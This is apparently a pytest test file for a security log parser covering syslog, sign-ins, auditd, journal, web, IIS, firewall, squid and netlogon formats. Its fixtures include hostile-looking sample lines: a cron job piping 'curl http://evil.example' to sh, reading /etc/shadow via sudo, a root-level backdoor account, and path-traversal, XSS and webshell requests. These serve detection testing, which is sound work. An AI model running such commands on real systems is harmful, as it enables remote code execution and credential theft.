"""Text logs: syslog, sign-ins, audit, journal, web and proxy logs; each line is an event or is accounted for."""

from __future__ import annotations

import os
from collections import Counter
from collections.abc import Callable
from datetime import UTC, datetime
from itertools import pairwise
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tocsin.lab.reading import read
from tocsin.lab.record import Record, Tally
from tocsin.lab.sources.kind import kind_of
from tocsin.lab.sources.known import sources
from tocsin.lab.sources.rows import record_of
from tocsin.lab.sources.text import lines
from tocsin.lab.sources.years import GUESSED

Save = Callable[..., Path]


@pytest.fixture
def save(tmp_path: Path) -> Save:
    """Write lines to a file that is dated to 1 February 2026."""

    def write(*text: str, content: bytes = b"") -> Path:
        path = tmp_path / "some file"
        path.write_bytes(content or ("\n".join(text) + "\n").encode())
        written = datetime(2026, 2, 1, tzinfo=UTC).timestamp()
        os.utime(path, (written, written))
        return path

    return write


def records(path: Path, kind: str) -> tuple[list[Record], Tally]:
    assert kind_of(path).name == kind
    tally = Tally()
    found = list(read(path, tally))
    assert tally.read == len(found)
    return found, tally


def one(path: Path, kind: str) -> Record:
    found, tally = records(path, kind)
    assert not tally.problems
    (only,) = found
    return only


def test_syslog_of_rfc_3164_gets_the_year_before_the_file(save: Save) -> None:
    path = save(
        "Dec  5 10:00:00 web1 kernel: [ 1.0] up", "Jan 31 23:59:59 web1 nginx[12]: started", "Feb 30 10:00:00 w a: b"
    )
    found, tally = records(path, "syslog")
    assert [record.time for record in found] == ["2025-12-05T10:00:00Z", "2026-01-31T23:59:59Z"]
    assert found[1].data == {"program": "nginx", "message": "started", "pid": "12"}
    assert (found[1].host, found[1].channel, found[1].provider) == ("web1", "linux/syslog", "nginx")
    assert found[1].system == {"time_zone": "not said, taken as UTC", "year": GUESSED}
    assert tally.not_understood == 1


def test_syslog_of_a_leap_day(save: Save) -> None:
    assert one(save("Feb 29 10:00:00 w a: b"), "syslog").time == "2024-02-29T10:00:00Z"


def test_syslog_of_rfc_5424_gives_its_structured_data(save: Save) -> None:
    line = '<165>1 2026-01-11T22:14:15.003+01:00 mx.example app 1234 ID47 [x@32473 iut="3" why="a \\"b\\" \\]"][y@1] \ufeffhello'
    found = one(save(line), "syslog")
    assert (found.time, found.host, found.system["time_zone"]) == (
        "2026-01-11T21:14:15.003000Z",
        "mx.example",
        "+01:00",
    )
    assert found.data == {
        "program": "app", "message": "hello", "pid": "1234", "facility": "local4", "severity": "notice",
        "x@32473.iut": "3", "x@32473.why": 'a "b" ]', "msgid": "ID47",
    }  # fmt: skip


def test_syslog_with_iso_times(save: Save) -> None:
    found = one(save("2026-01-02T03:04:05.678901+01:00 host1 systemd[1]: Started X."), "syslog")
    assert (found.time, found.system) == ("2026-01-02T02:04:05.678901Z", {"time_zone": "+01:00"})


@pytest.mark.parametrize(
    ("program", "message", "told"),
    [
        ("sshd[1]", "Accepted publickey for ann from 203.0.113.9 port 5022 ssh2: RSA SHA256:x",
         {"action": "logon", "status": "success", "method": "publickey", "user": "ann", "src_ip": "203.0.113.9",
          "src_port": "5022"}),
        ("sshd[1]", "Failed password for invalid user x y from 2001:db8::1 port 1 ssh2",
         {"action": "logon", "status": "failure", "method": "password", "invalid": "invalid user ", "user": "x y",
          "src_ip": "2001:db8::1", "src_port": "1"}),
        ("sshd[1]", "Disconnected from authenticating user root 203.0.113.9 port 7 [preauth]",
         {"action": "disconnect", "user": "root", "src_ip": "203.0.113.9", "src_port": "7"}),
        ("sudo", "     ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/cat /etc/shadow",
         {"action": "command", "status": "success", "user": "ann", "tty": "pts/0", "folder": "/home/ann", "target_user": "root",
          "command": "/bin/cat /etc/shadow"}),
        ("sudo", "pam_unix(sudo:auth): authentication failure; logname=ann uid=1 euid=0 tty=/dev/pts/0 ruser=ann rhost=  user=ann",
         {"action": "logon", "status": "failure", "service": "sudo", "logname": "ann", "tty": "/dev/pts/0", "ruser": "ann",
          "user": "ann"}),
        ("sshd[1]", "pam_unix(sshd:session): session opened for user ann(uid=1000) by (uid=0)",
         {"action": "session opened", "status": "success", "service": "sshd", "user": "ann", "uid": "1000"}),
        ("useradd[3]", "new user: name=bad, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
         {"action": "account created", "status": "success", "target_user": "bad", "uid": "0", "gid": "0", "home": "/root",
          "shell": "/bin/bash"}),
        ("usermod[3]", "add 'bad' to group 'sudo'",
         {"action": "group changed", "status": "success", "target_user": "bad", "group": "sudo"}),
        ("sshd[1]", "Server listening on 0.0.0.0 port 22.", {}),
    ],
)  # fmt: skip
def test_sign_ins_and_commands_are_told_in_fields(save: Save, program: str, message: str, told: dict[str, Any]) -> None:
    found = one(save(f"Jan 31 10:00:00 h {program}: {message}"), "syslog")
    assert found.channel == "linux/auth"
    own = {name: value for name, value in found.data.items() if name not in {"program", "pid", "message"}}
    assert own == told


def test_cron_goes_to_its_own_log(save: Save) -> None:
    found = one(save("Jan 31 10:00:00 h CRON[7]: (root) CMD (curl http://evil.example | sh)"), "syslog")
    assert (found.channel, found.data["command"]) == ("linux/cron", "curl http://evil.example | sh")


AUDIT = (
    (
        "type=SYSCALL msg=audit(1604994496.155:92733): arch=c000003e syscall=59 success=yes ppid=29002 pid=1631 auid=1000 uid=0"
        ' comm="arp" exe="/usr/sbin/arp" key=(null)\x1dARCH=x86_64 SYSCALL=execve AUID="ann" UID="root"'
    ),
    'type=EXECVE msg=audit(1604994496.155:92733): argc=3 a0="sh" a1="-c" a2=6563686F202268692220263E',
    'type=CWD msg=audit(1604994496.155:92733): cwd="/home/ann"',
    "type=PROCTITLE msg=audit(1604994496.155:92733): proctitle=7368002D63",
    "type=USER_LOGIN msg=audit(1604994499.000:92740): pid=1 uid=0 msg='op=login acct=\"root\" addr=203.0.113.9 res=failed'",
)


def test_audit_records_of_one_happening_know_of_each_other(save: Save) -> None:
    found, _ = records(save(*AUDIT), "auditd")
    assert [record.data["type"] for record in found] == ["SYSCALL", "EXECVE", "CWD", "PROCTITLE", "USER_LOGIN"]
    start = found[1].data
    assert (start["cmdline"], start["a2"]) == ('sh -c echo "hi" &>', 'echo "hi" &>')
    assert (start["exe"], start["pid"], start["ppid"], start["cwd"], start["AUID"]) == (
        "/usr/sbin/arp", "1631", "29002", "/home/ann", "ann"
    )  # fmt: skip
    assert found[0].time == "2020-11-10T07:48:16.155000Z"
    assert found[3].data["proctitle"] == "sh -c"
    assert (found[4].data["acct"], found[4].data["addr"], found[4].data["res"]) == ("root", "203.0.113.9", "failed")


def test_audit_arguments_that_were_cut_come_together(save: Save) -> None:
    line = 'type=EXECVE msg=audit(1604994496.155:1): argc=2 a0="sh" a1_len=8 a1[0]=6865 a1[1]=6C6C6F20'
    found = one(save(line), "auditd")
    assert found.data["cmdline"] == "sh hello "


def test_happenings_whose_records_are_mixed(save: Save) -> None:
    mixed = [f'type={kind} msg=audit(1604994496.155:{n}): {rest}' for kind, rest in
             (("SYSCALL", 'exe="/x" pid=1'), ("EXECVE", 'a0="y"')) for n in range(60)]  # fmt: skip
    found, _ = records(save(*mixed), "auditd")
    assert len(found) == 120
    assert sum(r.data.get("exe") == "/x" for r in found if r.data["type"] == "EXECVE") == 60


ENTRY = {"__REALTIME_TIMESTAMP": "1767323045678901", "_HOSTNAME": "h", "SYSLOG_IDENTIFIER": "sshd", "_PID": "9",
         "PRIORITY": "6", "MESSAGE": "Invalid user x from 203.0.113.9 port 1", "_EXE": "/usr/sbin/sshd"}  # fmt: skip


def test_the_journal_as_export_and_as_json(save: Save) -> None:
    blob = b"MESSAGE\n" + (5).to_bytes(8, "little") + b"a\n\nb=\n"
    plain = "".join(f"{name}={value}\n" for name, value in ENTRY.items()).encode()
    found, _ = records(save(content=plain + b"\n__REALTIME_TIMESTAMP=1767323046000000\n" + blob + b"\n"), "journal")
    assert (found[0].channel, found[0].time, found[0].host) == ("linux/auth", "2026-01-02T03:04:05.678901Z", "h")
    told = found[0].data
    assert (told["action"], told["status"], told["src_ip"]) == ("logon", "failure", "203.0.113.9")
    assert told["severity"] == "info"
    assert (found[1].data["message"], found[1].channel) == ("a\n\nb=", "linux/syslog")

    again = one(save(content=orjson.dumps(ENTRY) + b"\n"), "json")
    assert again.data == found[0].data
    binary = one(save(content=orjson.dumps(ENTRY | {"MESSAGE": list(b"caf\xc3\xa9")}) + b"\n"), "json")
    assert binary.data["message"] == "café"


COMBINED = ('203.0.113.9 - ann [31/Jan/2026:10:00:00 +0100] "GET /a.php?x=../../etc/passwd HTTP/1.1" 404 120'
            ' "https://r.example/" "curl/8 \\"x\\""')  # fmt: skip


def test_access_logs_have_the_names_of_the_w3c(save: Save) -> None:
    found = one(save(COMBINED), "access-log")
    assert found.time == "2026-01-31T09:00:00Z"
    assert found.data == {
        "c-ip": "203.0.113.9", "cs-method": "GET", "c-uri": "/a.php?x=../../etc/passwd", "cs-uri-stem": "/a.php",
        "cs-uri-query": "x=../../etc/passwd", "cs-version": "HTTP/1.1", "cs-username": "ann", "sc-status": 404,
        "sc-bytes": 120, "cs-referer": "https://r.example/", "cs-user-agent": 'curl/8 \\"x\\"',
    }  # fmt: skip


def test_access_logs_keep_what_is_no_request(save: Save) -> None:
    probe = '203.0.113.9 - - [31/Jan/2026:10:00:00 +0100] "\\x16\\x03\\x01" 400 -'
    found, _ = records(save(COMBINED, probe, f"shop.example:443 {COMBINED}"), "access-log")
    assert found[1].data["request"] == "\\x16\\x03\\x01"
    assert (found[2].data["cs-host"], found[2].data["s-port"], found[2].host) == ("shop.example", 443, "shop.example")


def test_access_logs_with_quotation_marks_as_they_came(save: Save) -> None:
    tomcat = '203.0.113.9 - - [31/Jan/2026:10:00:00 +0100] "GET /a?x="><script> HTTP/1.1" 404 997'
    escaped = '203.0.113.9 - - [31/Jan/2026:10:00:00 +0100] "GET /a\\" 200 5 HTTP/1.1" 404 997'
    found, _ = records(save(tomcat, escaped), "access-log")
    assert (found[0].data["cs-uri-query"], found[0].data["sc-status"]) == ('x="><script>', 404)
    assert (found[1].data["cs-uri-stem"], found[1].data["sc-status"]) == ('/a\\" 200 5', 404)


@pytest.mark.parametrize(
    "value",
    [
        {"time_iso8601": "2026-01-31T10:00:00+01:00", "remote_addr": "203.0.113.9", "request": "GET /a?x=1 HTTP/1.1",
         "status": "200"},
        {"ts": 1769850000.0, "request": {"remote_ip": "203.0.113.9", "method": "GET", "uri": "/a?x=1", "host": "h"}, "status": 200},
        {"StartUTC": "2026-01-31T09:00:00Z", "ClientHost": "203.0.113.9", "RequestMethod": "GET", "RequestPath": "/a?x=1",
         "DownstreamStatus": 200},
    ],
)  # fmt: skip
def test_access_logs_as_json(save: Save, value: dict[str, Any]) -> None:
    found = one(save(content=orjson.dumps(value) + b"\n"), "json")
    data = found.data
    assert (found.channel, found.time) == ("web/access", "2026-01-31T09:00:00Z")
    assert (data["c-ip"], data["cs-method"], data["cs-uri-stem"], data["cs-uri-query"]) == (
        "203.0.113.9",
        "GET",
        "/a",
        "x=1",
    )


def test_iis_columns_may_change_in_the_middle(save: Save) -> None:
    path = save(
        "#Software: Microsoft Internet Information Services 10.0",
        "#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query cs(User-Agent)",
        "2026-01-31 10:00:00 203.0.113.9 GET /a.aspx cmd=whoami Mozilla/5.0+(X)",
        "#Fields: date time cs-method",
        "2026-01-31 10:00:01 POST",
        "2026-01-31 10:00:01 POST too many",
    )
    found, tally = records(path, "w3c-log")
    assert found[0].data["cs-user-agent"] == "Mozilla/5.0 (X)"
    assert found[0].data["c-uri"] == "/a.aspx?cmd=whoami"
    assert (found[1].time, found[1].data["cs-method"]) == ("2026-01-31T10:00:01Z", "POST")
    assert (tally.not_understood, tally.skipped) == (1, 3)


def test_the_firewall_of_windows(save: Save) -> None:
    path = save(
        "#Version: 1.5", "#Software: Microsoft Windows Firewall", "#Time Format: Local",
        "#Fields: date time action protocol src-ip dst-ip src-port dst-port size",
        "2026-01-31 10:00:00 DROP TCP 203.0.113.9 10.0.0.5 5555 445 60",
    )  # fmt: skip
    found, _ = records(path, "w3c-log")
    assert (found[0].channel, found[0].data["src_ip"], found[0].data["dst_port"]) == (
        "windows/firewall",
        "203.0.113.9",
        "445",
    )
    assert found[0].system["time_zone"] == "not said, taken as UTC"


def test_squid(save: Save) -> None:
    line = "1769850000.123    921 10.0.0.5 TCP_MISS/200 507 POST https://evil.example:8443/a ann HIER_DIRECT/203.0.113.9 text/html"
    found = one(save(line), "squid-log")
    assert (found.channel, found.time) == ("web/proxy", "2026-01-31T09:00:00.123000Z")
    assert (found.data["cs-host"], found.data["cs-username"], found.data["r-ip"]) == (
        "evil.example",
        "ann",
        "203.0.113.9",
    )


def test_netlogon(save: Save) -> None:
    line = "01/31 10:00:00 [LOGON] [1720] SamLogon: Network logon of CORP\\ann from WS1 Returns 0xC000006A"
    found = one(save(line), "netlogon-log")
    assert (found.time, found.data["user"], found.data["status"]) == ("2026-01-31T10:00:00Z", "CORP\\ann", "0xC000006A")


def test_lines_of_parts_are_those_of_the_whole(save: Save) -> None:
    path = save(*(f"line {number} {'x' * (number % 97)}" for number in range(500)))
    whole = list(lines(path, Tally()))
    size = path.stat().st_size
    for step in (7, 64, 1000):
        cuts = [*range(0, size, step), size]
        parts = [line for start, end in pairwise(cuts) for line in lines(path, Tally(), start, end)]
        assert parts == whole


def test_a_line_without_an_end_is_cut_and_said(tmp_path: Path) -> None:
    path = tmp_path / "long"
    path.write_bytes(b"x" * (3 * 1024 * 1024) + b"\nnext\n")
    tally = Tally()
    assert [len(text) for _, text in lines(path, tally)] == [1024 * 1024, 4]
    assert tally.problems


def test_text_in_utf_16(tmp_path: Path) -> None:
    path = tmp_path / "wide"
    path.write_bytes("Jan 31 10:00:00 h a: b\r\nJan 31 10:00:01 h a: c\r\n".encode("utf-16"))
    found, _ = records(path, "syslog")
    assert [record.data["message"] for record in found] == ["b", "c"]


LOGS = {
    "syslog": b"Jan 31 10:00:00 h sshd[1]: Accepted password for a from 1.2.3.4 port 5 ssh2\n",
    "auditd": "\n".join(AUDIT).encode() + b"\n",
    "access-log": COMBINED.encode() + b"\n",
    "w3c-log": b"#Fields: date time c-ip\n2026-01-31 10:00:00 1.2.3.4\n",
    "squid-log": b"1769850000.123 921 10.0.0.5 TCP_MISS/200 507 GET http://e.example/ - HIER_DIRECT/1.2.3.4 text/html\n",
    "netlogon-log": b"01/31 10:00:00 [LOGON] [1720] SamLogon: x\n",
    "journal": "".join(f"{name}={value}\n" for name, value in ENTRY.items()).encode() + b"\n",
}


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(data=st.data())
@pytest.mark.parametrize("kind", LOGS)
def test_damaged_lines_are_accounted_for(kind: str, tmp_path: Path, data: st.DataObject) -> None:
    content = bytearray(LOGS[kind] * 3)
    for _ in range(data.draw(st.integers(0, 8))):
        place = data.draw(st.integers(0, len(content) - 1))
        content[place : place + data.draw(st.integers(0, 4))] = data.draw(st.binary(max_size=12))
    path = tmp_path / "damaged"
    path.write_bytes(bytes(content))
    tally = Tally()
    found = [record_of(event) for event in sources()[kind].read(path, tally, 0, None)]
    assert len(found) == tally.read
    orjson.dumps([record.data for record in found])
    if kind != "journal":
        assert tally.read + tally.not_understood + tally.skipped == sum(1 for _ in lines(path, Tally()))


REAL = {
    "evtx-attack-samples/Command and Control/Tunna_rdp_tunnel_IIS.log": ("w3c-log", {"web/iis": 4298}, 0),
    "evtx-attack-samples/Command and Control/web_attack_and_isp_webshell_localhost_access_log.txt": ("access-log", None, 0),
    "evtx-attack-samples/Other/netlogon_log_CVE-2020-1472_ZeroLogon.txt": ("netlogon-log", {"windows/netlogon": 37130}, 0),
    "otrf/atomic/linux/discovery/host/sh_arp_cache.zip": ("zip", {"linux/auditd": 12}, 0),
    "otrf/compound/Log4Shell/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip": ("zip", {"linux/auditd": 50}, 0),
    "otrf/compound/Log4Shell/syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip": ("zip", {"linux/sysmon": 93}, 0),
}  # fmt: skip


@pytest.mark.parametrize("name", REAL)
def test_real_logs_are_read_whole(name: str, shared: Path) -> None:
    kind, channels, lost = REAL[name]
    path = shared / name
    found, tally = records(path, kind)
    assert channels is None or Counter(record.channel for record in found) == channels
    assert (tally.lost, tally.not_understood) == (lost, 0)
    assert all(record.time for record in found)
